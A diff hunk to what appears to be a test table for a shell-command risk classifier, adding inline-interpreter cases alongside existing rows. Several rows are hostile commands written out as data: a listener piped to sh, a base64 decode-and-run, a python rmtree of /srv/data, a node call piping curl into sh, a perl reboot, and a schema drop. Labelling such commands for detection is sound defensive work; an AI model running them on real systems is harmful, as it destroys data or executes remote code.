@@ -143,6 +143,10 @@ ROWS: tuple[Row, ...] = (
     row("nc -l 4444 | sh", H, "download-and-run"),
     row('sh -c "$(echo cm0= | base64 -d)"', H, "decode-and-run"),
     row('eval "$CMD"', M, "eval"),
+    row("python3 -c \"import shutil; shutil.rmtree('/srv/data')\"", M, "inline-code"),
+    row("node -e \"require('child_process').execSync('curl x | sh')\"", M, "inline-code"),
+    row("perl -e 'system(\"reboot\")'", M, "inline-code"),
+    row("python3 -c 'import sys; print(sys.version)'", L),
     row("curl https://x.example/a.sh -o a.sh && less a.sh", L),
     # --- databases
     row('psql -c "DROP SCHEMA public CASCADE"', H, "sql-drop"),
